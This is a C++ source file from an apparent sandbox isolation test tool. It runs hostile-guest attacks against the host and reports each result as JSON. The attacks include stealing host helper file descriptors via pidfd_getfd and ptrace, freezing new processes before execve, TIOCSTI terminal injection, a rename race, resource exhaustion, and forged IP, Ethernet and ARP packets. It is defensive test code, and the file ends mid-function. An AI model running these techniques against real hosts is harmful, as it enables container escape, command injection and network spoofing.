// vs-probe's active attacks (hostile.hpp): what a hostile guest root does against the host's
// helpers, its sockets, other guests and the machine's resources, each reported as JSON.
//
// Like the sweep in main.cpp, every attack is harmless when it is NOT stopped: it writes only
// into the guest, a fd it obtains is only named and closed, a traced process is let go at once,
// and forged packets are UDP to the discard port of a documentation address. So a wrong result
// shows a hole without using it on the test machine.
#include "hostile.hpp"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <mqueue.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <signal.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#include <cerrno>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <set>
#include <string>
#include <vector>

#include "json.hpp"

namespace vsprobe {

const char* const kHostileUsage =
    "  ptrace-watch STOPFILE MAXITER   attack every new pid (pidfd_getfd, /proc/PID/fd, "
    "PTRACE_SEIZE)\n"
    "  stop-watch STOPFILE MAXITER     SIGSTOP every new pid; keep those held before execve\n"
    "  exchange-loop A B STOPFILE MAX  renameat2(RENAME_EXCHANGE) of A and B in a loop\n"
    "  tty-inject FD TEXT              ioctl TIOCSTI of TEXT and Enter, TIOCLINUX paste, on FD\n"
    "  unix-connect TARGET...          connect to unix sockets (@name: abstract)\n"
    "  unix-listen @NAME|PATH          listen there until killed\n"
    "  ipc-make KEY NAME [hold]        SysV shm/sem/msg KEY, mqueue, /dev/shm file, @NAME\n"
    "  ipc-find KEY NAME               which of those this process can reach\n"
    "  inotify-hog N [hold]            up to N inotify instances with one watch each\n"
    "  fd-hog                          open /dev/null until refused\n"
    "  net-forge IFACE FORGED-IP FORGED-MAC VICTIM-IP DST-IP   spoofing attempts\n"
    "  udp-send IP PORT                one UDP datagram (legitimate traffic)\n"
    "  sniff IFACE                     one line per frame seen on IFACE (host-side counter)\n";

namespace {

int usage_error(const char* what) {
    std::fprintf(stderr, "vs-probe: usage: %s\n", what);
    return 2;
}

std::string link_of(const std::string& p) {
    char b[4096];
    ssize_t n = ::readlink(p.c_str(), b, sizeof b - 1);
    if (n < 0) return "<" + errname(errno) + ">";
    return std::string(b, static_cast<size_t>(n));
}

std::string fd_target(int fd) { return link_of("/proc/self/fd/" + std::to_string(fd)); }

// {"EPERM":3,"OK":1}. One append per piece, not a chain of operator+: GCC 12 at -O3 inlines
// that into a memcpy it cannot bound and warns -Wrestrict (GCC bug 105651).
std::string tally_json(const std::map<std::string, long>& t) {
    std::string o = "{";
    for (auto& [k, v] : t) {
        if (o.size() > 1) o += ',';
        o += jstr(k);
        o += ':';
        o += std::to_string(v);
    }
    o += '}';
    return o;
}

long parse_long(const std::string& s, long fallback) {
    char* end = nullptr;
    long v = std::strtol(s.c_str(), &end, 0);
    return end && *end == '\0' && !s.empty() ? v : fallback;
}

std::vector<pid_t> list_pids() {
    std::vector<pid_t> v;
    DIR* d = ::opendir("/proc");
    if (!d) return v;
    while (auto* e = ::readdir(d)) {
        char* end = nullptr;
        long p = std::strtol(e->d_name, &end, 10);
        if (end && *end == '\0' && p > 0) v.push_back(static_cast<pid_t>(p));
    }
    ::closedir(d);
    return v;
}

// ---- ptrace-watch --------------------------------------------------------------------------

struct Watch {
    std::map<std::string, long> attach, getfd, fd_list, fd_open;
    // The same four, for the pids whose exe was not a plain path of the guest when attacked
    // (the sealed "/memfd:vs-init (deleted)", or unreadable: a process we may not look into).
    std::map<std::string, long> h_attach, h_getfd, h_fd_list, h_fd_open;
    std::map<std::string, long> exes;  // exe of each attacked pid -> count
    std::vector<std::string> obtained;
    long pids = 0;
    long attached_helpers = 0;  // attached and stopped while still running the sealed vs-init
};

// The same object (device and inode) at both paths, both followed.
bool same_file(const std::string& a, const std::string& b) {
    struct stat x = {};
    struct stat y = {};
    return ::stat(a.c_str(), &x) == 0 && ::stat(b.c_str(), &y) == 0 && x.st_dev == y.st_dev &&
           x.st_ino == y.st_ino;
}

void attack_pid(Watch& w, pid_t pid, int pidfd) {
    ++w.pids;
    const std::string proc = "/proc/" + std::to_string(pid);
    std::string exe = link_of(proc + "/exe");
    ++w.exes[exe];
    const bool helper = exe.empty() || exe[0] != '/' || exe.find("(deleted)") != std::string::npos;
    auto tally = [&](std::map<std::string, long>& all, std::map<std::string, long>& h,
                     const std::string& r) {
        ++all[r];
        if (helper) ++h[r];
    };
    // Fds 0-2 are the stdio the host hands every command on purpose: not recorded (they would
    // fill the list), only tallied. Fd -1: a stopped helper's root or cwd that is not the
    // guest's directory of that name, or a file it has mapped other than its own.
    auto got = [&](const char* how, int fd, const std::string& target) {
        if ((fd < 0 || fd > 2) && w.obtained.size() < 200)
            w.obtained.push_back("{\"pid\":" + std::to_string(pid) + ",\"exe\":" + jstr(exe) +
                                 ",\"how\":" + jstr(how) + ",\"fd\":" + std::to_string(fd) +
                                 ",\"target\":" + jstr(target) + "}");
    };
    // First the fds, fastest first: a joining process holds host fds only until its first
    // system calls close them.
    for (int fd = 0; fd < 8; ++fd) {
        int g = static_cast<int>(::syscall(SYS_pidfd_getfd, pidfd, fd, 0));
        if (g >= 0) {
            got("pidfd_getfd", fd, fd_target(g));
            ::close(g);
            tally(w.getfd, w.h_getfd, "OK");
        } else if (errno != EBADF) {
            tally(w.getfd, w.h_getfd, errname(errno));
        }
    }
    DIR* d = ::opendir((proc + "/fd").c_str());
    if (!d) {
        tally(w.fd_list, w.h_fd_list, errname(errno));
    } else {
        tally(w.fd_list, w.h_fd_list, "OK");
        while (auto* e = ::readdir(d)) {
            if (e->d_name[0] == '.') continue;
            std::string p = proc + "/fd/" + e->d_name;
            int fd = ::open(p.c_str(), O_PATH | O_CLOEXEC);
            if (fd >= 0) {
                got("open /proc/PID/fd", std::atoi(e->d_name), fd_target(fd));
                ::close(fd);
                tally(w.fd_open, w.h_fd_open, "OK");
            } else {
                tally(w.fd_open, w.h_fd_open, errname(errno));
            }
        }
        ::closedir(d);
    }
    // PTRACE_SEIZE, not PTRACE_ATTACH: an attached process that execs gets a real SIGTRAP,
    // which kills it if we have let go by then. The permission check is the same.
    if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0) {
        tally(w.attach, w.h_attach, "OK");
        ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
        int st = 0;
        if (::waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
            // Stopped, so what it runs now is certain: a joining process before its execve?
            std::string now = link_of(proc + "/exe");
            if (now.empty() || now[0] != '/' || now.find("(deleted)") != std::string::npos) {
                ++w.attached_helpers;
                // Held before its execve: all it has is ours now, exactly (it cannot change
                // while stopped). Every fd, and a root or cwd other than the guest's own.
                if (DIR* fds = ::opendir((proc + "/fd").c_str())) {
                    while (auto* e = ::readdir(fds)) {
                        if (e->d_name[0] == '.') continue;
                        got("held stopped: /proc/PID/fd", std::atoi(e->d_name),
                            link_of(proc + "/fd/" + e->d_name));
                    }
                    ::closedir(fds);
                }
                if (!same_file(proc + "/root", "/"))
                    got("held stopped: root", -1, link_of(proc + "/root"));
                std::string cwd = link_of(proc + "/cwd");
                if (!same_file(proc + "/cwd", cwd)) got("held stopped: cwd", -1, cwd);
                // Memory it shares with someone: only its own sealed text and the anonymous
                // page it reports an exec failure in ("/dev/zero (deleted)") are expected.
                if (FILE* maps = std::fopen((proc + "/maps").c_str(), "re")) {
                    std::set<std::string> seen_maps;
                    char line[4096];
                    while (std::fgets(line, sizeof line, maps)) {
                        const char* path = std::strchr(line, '/');
                        if (!path) continue;
                        std::string m(path, std::strcspn(path, "\n"));
                        if (m != now && m != "/dev/zero (deleted)" && seen_maps.insert(m).second)
                            got("held stopped: mapping", -1, m);
                    }
                    std::fclose(maps);
                }
            }
            ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
        }
    } else {
        tally(w.attach, w.h_attach, errname(errno));
    }
}

}  // namespace

// The guest's pid namespace hands out pids in order, so the next process the host starts in
// the guest gets the next free pid: a tight pidfd_open loop on it catches a joining process
// within microseconds of its birth, before its execve. /proc is rescanned now and then for pids
// the prediction missed.
int cmd_ptrace_watch(const std::vector<std::string>& args) {
    if (args.size() != 2) return usage_error("ptrace-watch STOPFILE MAXITER");
    const std::string& stop = args[0];
    const long max_iter = parse_long(args[1], -1);
    if (max_iter <= 0) return usage_error("ptrace-watch STOPFILE MAXITER (a positive count)");
    const pid_t self = ::getpid();
    std::set<pid_t> seen;
    pid_t next = 1;
    auto rescan = [&](Watch* w) {
        for (pid_t p : list_pids()) {
            if (seen.insert(p).second && w && p != self) {
                int fd = static_cast<int>(::syscall(SYS_pidfd_open, p, 0));
                if (fd >= 0) {
                    attack_pid(*w, p, fd);
                    ::close(fd);
                }
            }
            if (p >= next) next = p + 1;
        }
    };
    rescan(nullptr);
    Watch w;
    long iter = 0;
    for (; iter < max_iter; ++iter) {
        if ((iter & 0xfff) == 0) {
            if (::access(stop.c_str(), F_OK) == 0) break;
            rescan(&w);
        }
        for (pid_t cand = next; cand < next + 2; ++cand) {
            int fd = static_cast<int>(::syscall(SYS_pidfd_open, cand, 0));
            if (fd < 0) continue;
            seen.insert(cand);
            attack_pid(w, cand, fd);
            ::close(fd);
            next = cand + 1;
            break;
        }
    }
    std::string o =
        "{\"iterations\":" + std::to_string(iter) + ",\"pids\":" + std::to_string(w.pids) +
        ",\"attached_helpers\":" + std::to_string(w.attached_helpers) +
        ",\"attach\":" + tally_json(w.attach) + ",\"getfd\":" + tally_json(w.getfd) +
        ",\"fd_list\":" + tally_json(w.fd_list) + ",\"fd_open\":" + tally_json(w.fd_open) +
        ",\"helper\":{\"attach\":" + tally_json(w.h_attach) +
        ",\"getfd\":" + tally_json(w.h_getfd) + ",\"fd_list\":" + tally_json(w.h_fd_list) +
        ",\"fd_open\":" + tally_json(w.h_fd_open) + "},\"exes\":" + tally_json(w.exes) +
        ",\"obtained\":[";
    for (size_t i = 0; i < w.obtained.size(); ++i) o += (i ? "," : "") + w.obtained[i];
    std::printf("%s]}\n", o.c_str());
    return 0;
}

// ---- stop-watch ----------------------------------------------------------------------------

namespace {

// The state letter of /proc/PID/stat ('T': stopped), 0 when it is gone.
char proc_state(pid_t pid) {
    FILE* f = std::fopen(("/proc/" + std::to_string(pid) + "/stat").c_str(), "re");
    if (!f) return 0;
    char buf[512];
    size_t n = std::fread(buf, 1, sizeof buf - 1, f);
    std::fclose(f);
    buf[n] = 0;
    const char* close = std::strrchr(buf, ')');
    return close && close[1] == ' ' ? close[2] : 0;
}

}  // namespace

// Holds the host's joining processes stopped before their execve, with nothing but the SIGSTOP
// any guest root may send its own processes: the next pid is signalled the moment it exists
// (as ptrace-watch predicts it); one that stops while still running the sealed vs-init (or one
// we may not look into) stays stopped (a stopped process cannot exec, so that is exact), any
// other gets SIGCONT at once.
// One line per held pid on stdout, flushed: the guest's stop may kill us before the end.
int cmd_stop_watch(const std::vector<std::string>& args) {
    if (args.size() != 2) return usage_error("stop-watch STOPFILE MAXITER");
    const long max_iter = parse_long(args[1], -1);
    if (max_iter <= 0) return usage_error("stop-watch STOPFILE MAXITER (a positive count)");
    const pid_t self = ::getpid();
    pid_t next = 1;
    for (pid_t p : list_pids())
        if (p >= next) next = p + 1;
    std::vector<pid_t> held;
    for (long iter = 0; iter < max_iter; ++iter) {
        if ((iter & 0xfff) == 0) {
            if (::access(args[0].c_str(), F_OK) == 0) break;
            for (pid_t p : list_pids())
                if (p >= next && p != self) next = p + 1;
        }
        for (pid_t cand = next; cand < next + 2; ++cand) {
            if (::kill(cand, SIGSTOP) != 0) continue;
            next = cand + 1;
            char st = 0;
            for (int i = 0; i < 2000 && (st = proc_state(cand)) != 'T' && st != 0; ++i)
                ::usleep(500);
            std::string exe = link_of("/proc/" + std::to_string(cand) + "/exe");
            // Unreadable (EACCES): non-dumpable, as a joining process is in a user namespace.
            if (st == 'T' && (exe[0] != '/' || exe.find("(deleted)") != std::string::npos)) {
                held.push_back(cand);
                std::printf("{\"held\":%d,\"exe\":%s}\n", static_cast<int>(cand),
                            jstr(exe).c_str());
                std::fflush(stdout);
            } else {
                ::kill(cand, SIGCONT);
            }
            break;
        }
    }
    for (pid_t p : held) ::kill(p, SIGCONT);
    return 0;
}

// ---- exchange-loop -------------------------------------------------------------------------

int cmd_exchange_loop(const std::vector<std::string>& args) {
    if (args.size() != 4) return usage_error("exchange-loop A B STOPFILE MAX");
    const long max = parse_long(args[3], -1);
    if (max <= 0) return usage_error("exchange-loop A B STOPFILE MAX (a positive count)");
    long ok = 0, n = 0;
    std::map<std::string, long> errs;
    for (; n < max; ++n) {
        if ((n & 0xff) == 0 && ::access(args[2].c_str(), F_OK) == 0) break;
        if (::syscall(SYS_renameat2, AT_FDCWD, args[0].c_str(), AT_FDCWD, args[1].c_str(),
                      RENAME_EXCHANGE) == 0)
            ++ok;
        else
            ++errs[errname(errno)];
    }
    std::printf("{\"swaps\":%ld,\"errors\":%s}\n", ok, tally_json(errs).c_str());
    return 0;
}

// ---- tty-inject ----------------------------------------------------------------------------

int cmd_tty_inject(const std::vector<std::string>& args) {
    if (args.size() != 2) return usage_error("tty-inject FD TEXT");
    const int fd = static_cast<int>(parse_long(args[0], -1));
    if (fd < 0) return usage_error("tty-inject FD TEXT (FD a number)");
    long injected = 0;
    int sti_err = 0;
    // TEXT and Enter, as a person at that terminal would type it.
    for (char c : args[1] + "\n") {
        if (::ioctl(fd, TIOCSTI, &c) == 0) {
            ++injected;
        } else {
            sti_err = errno;
            break;
        }
    }
    // TIOCLINUX subcode 3 (TIOCL_PASTESEL): paste the console selection as input.
    char sub = 3;
    int lin_err = ::ioctl(fd, TIOCLINUX, &sub) == 0 ? 0 : errno;
    std::printf("{\"tty\":%s,\"tiocsti\":%s,\"injected\":%ld,\"tioclinux\":%s}\n",
                jstr(fd_target(fd)).c_str(), jstr(errname(sti_err)).c_str(), injected,
                jstr(errname(lin_err)).c_str());
    return 0;
}

// ---- unix sockets --------------------------------------------------------------------------

namespace {

socklen_t unix_addr(const std::string& target, sockaddr_un& a) {
    std::memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    size_t max = sizeof a.sun_path - 1;
    if (!target.empty() && target[0] == '@') {
        std::string n = target.substr(1, max - 1);
        std::memcpy(a.sun_path + 1, n.data(), n.size());
        return static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + n.size());
    }
    std::string n = target.substr(0, max);
    std::memcpy(a.sun_path, n.data(), n.size());
    return static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + n.size() + 1);
}

// errno of connect(2) to TARGET (a stream socket, or a datagram one when the type differs).
int unix_connect_err(const std::string& target) {
    sockaddr_un a;
    socklen_t len = unix_addr(target, a);
    int e = 0;
    for (int type : {SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET}) {
        int s = ::socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
        if (s < 0) return errno;
        e = ::connect(s, reinterpret_cast<sockaddr*>(&a), len) == 0 ? 0 : errno;
        ::close(s);
        if (e != EPROTOTYPE) break;
    }
    return e;
}

}  // namespace

int cmd_unix_connect(const std::vector<std::string>& args) {
    if (args.empty()) return usage_error("unix-connect TARGET...");
    std::string o = "[";
    for (auto& t : args) {  // appends, not operator+ (tally_json: GCC bug 105651)
        if (o.size() > 1) o += ',';
        o += "{\"target\":";
        o += jstr(t);
        o += ",\"connect\":";
        o += jstr(errname(unix_connect_err(t)));
        o += '}';
    }
    std::printf("%s]\n", o.c_str());
    return 0;
}

int cmd_unix_listen(const std::vector<std::string>& args) {
    if (args.size() != 1) return usage_error("unix-listen @NAME|PATH");
    sockaddr_un a;
    socklen_t len = unix_addr(args[0], a);
    int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    int e = s < 0 || ::bind(s, reinterpret_cast<sockaddr*>(&a), len) != 0 || ::listen(s, 8) != 0
                ? errno
                : 0;
    std::printf("{\"listen\":%s}\n", jstr(errname(e)).c_str());
    std::fflush(stdout);
    if (e) return 1;
    for (;;) ::pause();
}

// ---- SysV and POSIX IPC --------------------------------------------------------------------

int cmd_ipc_make(const std::vector<std::string>& args) {
    if (args.size() < 2 || args.size() > 3 || (args.size() == 3 && args[2] != "hold"))
        return usage_error("ipc-make KEY NAME [hold]");
    const key_t key = static_cast<key_t>(parse_long(args[0], 0));
    const std::string& name = args[1];
    auto e = [](bool ok) { return jstr(errname(ok ? 0 : errno)); };
    std::string o = "{";
    o += "\"shm\":" + e(::shmget(key, 4096, IPC_CREAT | 0666) >= 0);
    o += ",\"sem\":" + e(::semget(key, 1, IPC_CREAT | 0666) >= 0);
    int q = ::msgget(key, IPC_CREAT | 0666);
    o += ",\"msg\":" + e(q >= 0);
    if (q >= 0) {
        struct {
            long type;
            char text[8];
        } m{1, "b25"};
        o += ",\"msgsnd\":" + e(::msgsnd(q, &m, sizeof m.text, IPC_NOWAIT) == 0);
    }
    mqd_t mq = ::mq_open(("/" + name).c_str(), O_CREAT | O_RDWR | O_CLOEXEC, 0666, nullptr);
    o += ",\"mqueue\":" + e(mq != static_cast<mqd_t>(-1));
    int f = ::open(("/dev/shm/" + name).c_str(), O_CREAT | O_WRONLY | O_CLOEXEC, 0666);
    o += ",\"devshm\":" + e(f >= 0);
    if (f >= 0) {
        (void)!::write(f, "b25\n", 4);
        ::close(f);
    }
    sockaddr_un a;
    socklen_t len = unix_addr("@" + name, a);
    int s = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    o += ",\"abstract\":" +
         e(s >= 0 && ::bind(s, reinterpret_cast<sockaddr*>(&a), len) == 0 && ::listen(s, 8) == 0);
    std::printf("%s}\n", o.c_str());
    std::fflush(stdout);
    if (args.size() == 3)
        for (;;) ::pause();
    return 0;
}

int cmd_ipc_find(const std::vector<std::string>& args) {
    if (args.size() != 2) return usage_error("ipc-find KEY NAME");
    const key_t key = static_cast<key_t>(parse_long(args[0], 0));
    const std::string& name = args[1];
    auto e = [](bool ok) { return jstr(errname(ok ? 0 : errno)); };
    std::string o = "{";
    o += "\"shm\":" + e(::shmget(key, 0, 0) >= 0);
    o += ",\"sem\":" + e(::semget(key, 0, 0) >= 0);
    o += ",\"msg\":" + e(::msgget(key, 0) >= 0);
    mqd_t mq = ::mq_open(("/" + name).c_str(), O_RDONLY | O_CLOEXEC);
    o += ",\"mqueue\":" + e(mq != static_cast<mqd_t>(-1));
    if (mq != static_cast<mqd_t>(-1)) ::mq_close(mq);
    int f = ::open(("/dev/shm/" + name).c_str(), O_RDONLY | O_CLOEXEC);
    o += ",\"devshm\":" + e(f >= 0);
    if (f >= 0) ::close(f);
    o += ",\"abstract\":" + jstr(errname(unix_connect_err("@" + name)));
    // How many of each kind exist in this IPC namespace at all (SHM_INFO/MSG_INFO/SEM_INFO).
    shm_info si{};
    int r = ::shmctl(0, SHM_INFO, reinterpret_cast<shmid_ds*>(&si));
    o += ",\"shm_ids\":" + std::to_string(r < 0 ? -1 : si.used_ids);
    msginfo mi{};
    r = ::msgctl(0, MSG_INFO, reinterpret_cast<msqid_ds*>(&mi));
    o += ",\"msg_ids\":" + std::to_string(r < 0 ? -1 : mi.msgpool);
    seminfo sm{};
    r = ::semctl(0, 0, SEM_INFO, &sm);
    o += ",\"sem_ids\":" + std::to_string(r < 0 ? -1 : sm.semusz);
    std::printf("%s}\n", o.c_str());
    return 0;
}

// ---- resource hogs -------------------------------------------------------------------------

int cmd_inotify_hog(const std::vector<std::string>& args) {
    if (args.empty() || args.size() > 2 || (args.size() == 2 && args[1] != "hold"))
        return usage_error("inotify-hog N [hold]");
    const long n = parse_long(args[0], -1);
    if (n <= 0) return usage_error("inotify-hog N [hold] (a positive count)");
    long made = 0;
    int err = 0, werr = 0;
    for (; made < n; ++made) {
        int fd = ::inotify_init1(IN_CLOEXEC);
        if (fd < 0) {
            err = errno;
            break;
        }
        if (::inotify_add_watch(fd, "/", IN_CREATE) < 0 && !werr) werr = errno;
    }
    std::printf("{\"made\":%ld,\"error\":%s,\"watch_error\":%s}\n", made,
                jstr(errname(err)).c_str(), jstr(errname(werr)).c_str());
    std::fflush(stdout);
    if (args.size() == 2)
        for (;;) ::pause();
    return 0;
}

int cmd_fd_hog(const std::vector<std::string>& args) {
    if (!args.empty()) return usage_error("fd-hog");
    rlimit rl{};
    ::getrlimit(RLIMIT_NOFILE, &rl);
    long opened = 0;
    int err = 0;
    // Bounded by the limit itself (plus a margin): an unlimited process stops there too.
    const long cap = rl.rlim_cur == RLIM_INFINITY ? 1L << 20 : static_cast<long>(rl.rlim_cur) + 16;
    for (; opened < cap; ++opened) {
        if (::open("/dev/null", O_RDONLY) < 0) {
            err = errno;
            break;
        }
    }
    std::printf("{\"opened\":%ld,\"error\":%s,\"nofile\":%llu}\n", opened,
                jstr(errname(err)).c_str(), static_cast<unsigned long long>(rl.rlim_cur));
    return 0;
}

// ---- network spoofing ----------------------------------------------------------------------

namespace {

uint16_t ip_checksum(const void* data, size_t len) {
    const auto* p = static_cast<const uint8_t*>(data);
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2) sum += static_cast<uint32_t>(p[i] << 8 | p[i + 1]);
    if (len & 1) sum += static_cast<uint32_t>(p[len - 1] << 8);
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return htons(static_cast<uint16_t>(~sum));
}

// An IPv4 + UDP packet src -> dst, port 9 (discard), payload "vs-forged".
std::vector<uint8_t> udp_packet(in_addr src, in_addr dst) {
    static const char kPayload[] = "vs-forged";
    std::vector<uint8_t> b(sizeof(iphdr) + sizeof(udphdr) + sizeof kPayload - 1);
    auto* ip = reinterpret_cast<iphdr*>(b.data());
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons(static_cast<uint16_t>(b.size()));
    ip->saddr = src.s_addr;
    ip->daddr = dst.s_addr;
    ip->check = ip_checksum(ip, sizeof *ip);
    auto* udp = reinterpret_cast<udphdr*>(b.data() + sizeof(iphdr));
    udp->source = htons(40000);
    udp->dest = htons(9);
    udp->len = htons(static_cast<uint16_t>(b.size() - sizeof(iphdr)));
    std::memcpy(b.data() + sizeof(iphdr) + sizeof(udphdr), kPayload, sizeof kPayload - 1);
    return b;
}

bool parse_mac(const std::string& s, uint8_t mac[6]) {
    unsigned v[6];
    if (std::sscanf(s.c_str(), "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
        return false;
    for (int i = 0; i < 6; ++i) mac[i] = static_cast<uint8_t>(v[i]);
    return true;
}

}  // namespace

int cmd_net_forge(const std::vector<std::string>& args) {
    if (args.size() != 5)
        return usage_error("net-forge IFACE FORGED-IP FORGED-MAC VICTIM-IP DST-IP");
    const std::string& ifname = args[0];
    in_addr forged{}, victim{}, dst{};
    uint8_t fmac[6];
    if (::inet_pton(AF_INET, args[1].c_str(), &forged) != 1 || !parse_mac(args[2], fmac) ||
        ::inet_pton(AF_INET, args[3].c_str(), &victim) != 1 ||
        ::inet_pton(AF_INET, args[4].c_str(), &dst) != 1)
        return usage_error("net-forge IFACE FORGED-IP FORGED-MAC VICTIM-IP DST-IP (bad address)");
    const unsigned ifindex = ::if_nametoindex(ifname.c_str());
    auto en = [](int e) { return jstr(errname(e)); };
    std::string o = "{";

    // A raw IP socket: a packet with any source address.
    int s = ::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    o += "\"raw_ip\":" + en(s < 0 ? errno : 0);
    if (s >= 0) {
        auto pkt = udp_packet(forged, dst);
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_addr = dst;
        int e =
            ::sendto(s, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0
                ? errno
                : 0;
        o += ",\"raw_ip_send\":" + en(e);
        ::close(s);
    }

    // A packet socket: frames with a forged source MAC, and a gratuitous ARP claiming VICTIM-IP.
    s = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    o += ",\"packet\":" + en(s < 0 ? errno : 0);
    if (s >= 0) {
        sockaddr_ll ll{};
        ll.sll_family = AF_PACKET;
        ll.sll_ifindex = static_cast<int>(ifindex);
        ll.sll_halen = 6;
        std::memset(ll.sll_addr, 0xff, 6);
        std::vector<uint8_t> frame(sizeof(ether_header));
        auto* eh = reinterpret_cast<ether_header*>(frame.data());
        std::memset(eh->ether_dhost, 0xff, 6);
        std::memcpy(eh->ether_shost, fmac, 6);
        eh->ether_type = htons(ETHERTYPE_IP);
        auto pkt = udp_packet(forged, dst);
        frame.insert(frame.end(), pkt.begin(), pkt.end());
        int e = ::sendto(s, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&ll),
                         sizeof ll) < 0
                    ? errno
                    : 0;
        o += ",\"eth_send\":" + en(e);
        // ARP: htype 1, ptype IPv4, hlen 6, plen 4, op 1; sender = target = VICTIM-IP.
        uint8_t arp[28] = {0, 1, 8, 0, 6, 4, 0, 1};
        std::memcpy(arp + 8, fmac, 6);
        std::memcpy(arp + 14, &victim, 4);
        std::memcpy(arp + 24, &victim, 4);
        frame.resize(sizeof(ether_header));
        // Again from data(): the insert above may have moved the frame.
        reinterpret_cast<ether_header*>(frame.data())->ether_type = htons(ETHERTYPE_ARP);
        frame.insert(frame.end(), arp, arp + sizeof arp);
        frame.resize(60);  // the Ethernet minimum
        e = ::sendto(s, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&ll),
                     sizeof ll) < 0
                ? errno
                : 0;
        o += ",\"garp_send\":" + en(e);
        ::close(s);
    }

    // Binding another guest's address, plainly and with IP_FREEBIND (allowed to anyone), then
    // sending from it: the route lookup refuses a source that is not local.
    sockaddr_in va{};
    va.sin_family = AF_INET;
    va.sin_addr = victim;
    va.sin_port = htons(40001);
    s = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    o += ",\"bind_victim\":" +
         en(::bind(s, reinterpret_cast<sockaddr*>(&va), sizeof va) == 0 ? 0 : errno);
    ::close(s);
    s = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int one = 1;
    o += ",\"freebind\":" +
         en(::setsockopt(s, IPPROTO_IP, IP_FREEBIND, &one, sizeof one) == 0 ? 0 : errno);
    int be = ::bind(s, reinterpret_cast<sockaddr*>(&va), sizeof va) == 0 ? 0 : errno;
    o += ",\"freebind_bind\":" + en(be);
    if (be == 0) {
        sockaddr_in to{};
        to.sin_family = AF_INET;
        to.sin_addr = dst;
        to.sin_port = htons(9);
        o += ",\"freebind_send\":" +
             en(::sendto(s, "vs-forged", 9, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0
                    ? errno
                    : 0);
    }
    ::close(s);
    s = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    o += ",\"transparent\":" +
         en(::setsockopt(s, IPPROTO_IP, IP_TRANSPARENT, &one, sizeof one) == 0 ? 0 : errno);
    // Re-addressing the interface, and changing its MAC, through the old ioctls.
    ifreq ifr{};
    std::strncpy(ifr.ifr_name, ifname.c_str(), IFNAMSIZ - 1);
    auto* sin = reinterpret_cast<sockaddr_in*>(&ifr.ifr_addr);
    sin->sin_family = AF_INET;
    sin->sin_addr = victim;
    o += ",\"siocsifaddr\":" + en(::ioctl(s, SIOCSIFADDR, &ifr) == 0 ? 0 : errno);
    std::memset(&ifr.ifr_hwaddr, 0, sizeof ifr.ifr_hwaddr);
    ifr.ifr_hwaddr.sa_family = 1;  // ARPHRD_ETHER
    std::memcpy(ifr.ifr_hwaddr.sa_data, fmac, 6);
    o += ",\"siocsifhwaddr\":" + en(::ioctl(s, SIOCSIFHWADDR, &ifr) == 0 ? 0 : errno);
    ::close(s);
    std::printf("%s}\n", o.c_str());
    return 0;
}

int cmd_udp_send(const std::vector<std::string>& args) {
    if (args.size() != 2) return usage_error("udp-send IP PORT");
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<uint16_t>(parse_long(args[1], 9)));
    if (::inet_pton(AF_INET, args[0].c_str(), &to.sin_addr) != 1)
        return usage_error("udp-send IP PORT (bad address)");
    int s = ::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int e = s < 0 || ::sendto(s, "vs-probe", 8, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0
                ? errno
                : 0;
    std::printf("{\"udp_send\":%s}\n", jstr(errname(e)).c_str());
    return e ? 1 : 0;
}

// One line per frame: "SRC-MAC ETHERTYPE SRC-IP" (the IPv4 source, or the ARP sender address;
// "-" for other types). A "# listening" line first, once the socket is bound, so a test can
// wait for it. Runs until killed, or 100000 frames.
int cmd_sniff(const std::vector<std::string>& args) {
    if (args.size() != 1) return usage_error("sniff IFACE");
    const unsigned ifindex = ::if_nametoindex(args[0].c_str());
    if (!ifindex) {
        std::fprintf(stderr, "vs-probe: sniff: no interface %s\n", args[0].c_str());
        return 1;
    }
    int s = ::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
    if (s < 0) {
        std::fprintf(stderr, "vs-probe: sniff: socket: %s\n", errname(errno).c_str());
        return 1;
    }
    sockaddr_ll ll{};
    ll.sll_family = AF_PACKET;
    ll.sll_protocol = htons(ETH_P_ALL);
